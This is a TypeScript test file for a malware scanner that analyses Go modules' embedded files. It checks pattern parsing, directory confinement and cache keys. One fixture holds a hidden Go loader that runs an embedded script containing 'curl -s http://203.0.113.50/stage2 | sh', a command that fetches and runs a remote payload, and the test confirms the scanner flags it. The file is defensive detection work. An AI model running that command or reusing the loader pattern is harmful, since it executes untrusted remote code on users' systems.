// `//go:embed` files are part of what a package does: string recovery gives an embedded string var its
// file's text, IOC extraction reads embedded text files, and the scan cache keys on them.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { loadRules, defaultRulesDir } from '../src/static/rules/load.js';
import { collectPackages, scanModule } from '../src/static/scan.js';
import { ScanCache } from '../src/static/scan-cache.js';
import { embedPatternsBefore, PackageEmbeds } from '../src/static/embeds.js';
import { makeModule } from './helpers/modules.js';

const rules = loadRules([defaultRulesDir()]);


const runner = (name: string) =>
  `package m\n\nimport (\n\t_ "embed"\n\t"os/exec"\n)\n\n//go:embed ${name}\nvar setup string\n\n// Init prepares the environment.\nfunc Init() error {\n\treturn exec.Command("/bin/sh", "-c", setup).Run()\n}\n`;

test('the //go:embed lines right above a var are its patterns; anything else in between ends them', () => {
  const lone = '//go:embed a.sh "b c.txt"\n//go:embed `d.txt`\nvar x string\n';
  assert.deepEqual(embedPatternsBefore(lone, lone.indexOf('x string')), ['a.sh', 'b c.txt', 'd.txt']);
  const group = 'var (\n\t// comment\n\t//go:embed conf/*.yaml\n\n\tconf []byte\n)\n';
  assert.deepEqual(embedPatternsBefore(group, group.indexOf('conf []byte')), ['conf/*.yaml']);
  const first = 'var (\n\t//go:embed first.txt\n\tfirst string\n)\n';
  assert.deepEqual(embedPatternsBefore(first, first.indexOf('first string')), ['first.txt']);
  const apart = '//go:embed a.sh\nvar y = 1\n\nvar x string\n';
  assert.deepEqual(embedPatternsBefore(apart, apart.indexOf('x string')), []);
});

test('embedded files are read only inside the package directory, small and in UTF-8', () => {
  const dir = makeModule({ 'pkg/a.sh': 'echo a\n', 'pkg/sub/b.sh': 'echo b\n', 'secret.txt': 'outside\n' });
  try {
    const pkg = new PackageEmbeds(join(dir, 'pkg'));
    assert.equal(pkg.textOf(['a.sh']), 'echo a\n');
    assert.equal(pkg.textOf(['sub/*.sh']), 'echo b\n');
    assert.equal(pkg.textOf(['../secret.txt']), undefined);
    assert.equal(pkg.textOf(['/etc/hostname']), undefined);
    assert.equal(pkg.textOf(['missing.sh', 'a.sh']), 'echo a\n');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('a script embedded as a string and run with sh -c is recovered, matched and mined for IOCs', async () => {
  const dir = makeModule({
    'go.mod': 'module example.test/m\n',
    'm.go': runner('setup.sh'),
    'setup.sh': '#!/bin/sh\ncurl -s http://203.0.113.50/stage2 | sh\n',
  });
  try {
    const r = await scanModule(dir, { rules, workers: 0 });
    const hit = r.findings.find((f) => f.ruleId === 'exec-download-ip-pipe-shell');
    assert.ok(hit, r.findings.map((f) => f.ruleId).join(' '));
    assert.ok(hit.recoveredStrings.some((s) => s.includes('curl -s http://203.0.113.50/stage2 | sh')), hit.recoveredStrings.join('|'));
    assert.ok(r.iocs.urls.includes('http://203.0.113.50/stage2'), JSON.stringify(r.iocs));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('an embedded script that downloads nothing stays a low shell finding', async () => {
  const dir = makeModule({ 'go.mod': 'module example.test/m\n', 'm.go': runner('setup.sh'), 'setup.sh': '#!/bin/sh\nmkdir -p "$HOME/.cache/tool"\n' });
  try {
    const r = await scanModule(dir, { rules, workers: 0 });
    assert.deepEqual(r.findings.map((f) => f.ruleId), ['exec-shell-dash-c']);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the scan cache key changes when an embedded file changes', () => {
  const dir = makeModule({ 'go.mod': 'module example.test/m\n', 'm.go': runner('setup.sh'), 'setup.sh': 'echo one\n' });
  try {
    const cache = new ScanCache(join(dir, '.cache'), 'pack');
    const [task] = collectPackages(dir);
    const before = cache.keyOf(task!);
    writeFileSync(join(dir, 'setup.sh'), 'echo two\n');
    assert.notEqual(cache.keyOf(task!), before);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
